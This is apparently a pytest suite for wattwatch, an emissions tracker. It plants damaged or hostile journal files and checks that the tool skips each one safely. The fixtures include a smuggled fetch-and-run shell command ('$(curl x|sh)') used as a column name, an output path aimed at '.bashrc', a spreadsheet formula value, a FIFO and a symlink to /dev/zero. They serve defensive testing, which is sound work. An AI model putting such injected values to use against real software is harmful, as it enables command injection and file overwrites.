"""Journals planted or damaged in ``.wattwatch/runs/`` (issue 23): nothing in one can block ``Tracker.start()``,
``wattwatch report`` or ``wattwatch merge``, shape a header, or send a row to another file. Each bad journal is
skipped with one note naming it.

Every case runs the three openers of a folder in a fresh process with a time limit, so a journal that hangs
the reader (a FIFO) fails the test instead of hanging the suite."""

from __future__ import annotations

import json
import os
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest
from hardhelp import csv_rows, run_python

from wattwatch.result import COLUMNS
from wattwatch.sinks.journal import JOURNAL_DIR


def _valid(run_id: str = "planted") -> dict[str, object]:
    row = dict.fromkeys(COLUMNS, "")
    row.update(run_id=run_id, status="running", energy_consumed="0.25", emissions="0.05", duration="10")
    return {
        "format": "wattwatch.journal",
        "version": 1,
        "run_id": run_id,
        "output_file": "emissions.csv",
        "status": "running",
        "final": True,
        "written_at": 1.0,
        "owner": {"pid": 1, "host": "elsewhere", "boot_id": "", "start_ticks": None},
        "pending": None,
        "columns": list(COLUMNS),
        "row": row,
    }


def _json(mutate: Callable[[dict[str, object]], None]) -> Callable[[Path], None]:
    def plant(path: Path) -> None:
        doc = _valid()
        mutate(doc)
        path.write_text(json.dumps(doc))

    return plant


def _nested(path: Path) -> None:
    path.write_text("[" * 200_000 + "]" * 200_000)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _huge(path: Path) -> None:
    with open(path, "wb") as fh:
        fh.truncate(64 << 20)  # sparse: 64 MiB of zeros


CASES: dict[str, Callable[[Path], None]] = {
    "owner-is-a-list": _json(lambda d: d.update(owner=[1, 2])),
    "columns-is-a-string": _json(lambda d: d.update(columns=",".join(COLUMNS))),
    "columns-not-wattwatchs": _json(lambda d: d.update(columns=["a", "b"], row={"a": "=1", "b": "2"})),
    "row-outside-columns": _json(lambda d: d.update(row={"$(curl x|sh)": "1"})),
    "output-file-elsewhere": _json(lambda d: d.update(output_file=".bashrc")),
    "pending-length-huge": _json(lambda d: d.update(pending={"offset": 0, "length": 10**12, "digest": "z"})),
    "pid-out-of-range": _json(lambda d: d.update(owner={"pid": 10**30, "host": "h"}, final=False)),
    "deeply-nested": _nested,
    "fifo": _fifo,
    "link-to-dev-zero": _dev_zero,
    "64-mib": _huge,
    "not-utf8": lambda p: p.write_bytes(b"\xff\xfe{\x00"),
}

_OPENERS = textwrap.dedent(
    """
    import io, json, sys
    from contextlib import redirect_stderr, redirect_stdout
    from fakesensors import ConstantPowerSensor
    from wattwatch import Tracker
    from wattwatch.cli.main import main
    out = sys.argv[1]
    result = {}
    with Tracker(output_dir=out, sensors=[ConstantPowerSensor()], handle_signals=False, save_timeseries=False,
                 run_id="mine") as t:
        pass
    result["status"] = t.final_emissions_data.status
    for name, argv in (("report", ["report", out]), ("merge", ["merge", out, "-o", out + "/merged.csv"])):
        so, se = io.StringIO(), io.StringIO()
        with redirect_stdout(so), redirect_stderr(se):
            result[name] = main(argv)
        result[name + "_err"] = se.getvalue()
    print(json.dumps(result))
    """
)


def _write_part(out: Path) -> None:
    from wattwatch.distributed.parts import Part, parts_dir, write_part
    from wattwatch.result import EmissionsData

    data = EmissionsData(run_id="dist", energy_consumed=0.5, emissions=0.05, duration=10.0, status="completed")
    write_part(parts_dir(out, "dist"), Part("dist", 0, 1, "n0", status="completed", data=data, channels={}))


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_bad_journal_never_blocks_the_folder(tmp_path: Path, case: str) -> None:
    """Fault: one bad file named ``*.json`` among the journals (see CASES). Used to: make start(), report and
    merge die (AttributeError, RecursionError, MemoryError), hang (a FIFO), or write a header of a string's
    letters. User sees: the run and its row, report's table with a note naming the skipped file, merge's
    output. Not written: a row from the planted journal, or anything but wattwatch's own header."""
    out = tmp_path / "out"
    runs = out / JOURNAL_DIR
    runs.mkdir(parents=True)
    bad = runs / f"{case}.json"
    CASES[case](bad)
    _write_part(out)
    done = run_python(_OPENERS.replace("sys.argv[1]", repr(str(out))), timeout=60)
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["status"] == "completed"
    assert result["report"] == 0 and result["merge"] == 0, result
    assert f"skipped journal {bad}" in result["report_err"], result["report_err"]
    rows = csv_rows(out / "emissions.csv")  # wattwatch's header (csv_rows checks it), no planted row
    assert [r["run_id"] for r in rows] == ["mine"]
    assert not (out / ".bashrc").exists() and not (out / ".bashrc.wattwatch.csv").exists()


def test_a_valid_planted_journal_is_finalised_into_its_own_folder_only(tmp_path: Path) -> None:
    """Not an attack, the contrast: a well-formed journal of a dead run is added to emissions.csv once."""
    out = tmp_path / "out"
    runs = out / JOURNAL_DIR
    runs.mkdir(parents=True)
    (runs / "planted.x.json").write_text(json.dumps(_valid()))
    done = run_python(_OPENERS.replace("sys.argv[1]", repr(str(out))), timeout=60)
    assert done.returncode == 0, done.stderr[-3000:]
    assert sorted(r["run_id"] for r in csv_rows(out / "emissions.csv")) == ["mine", "planted"]
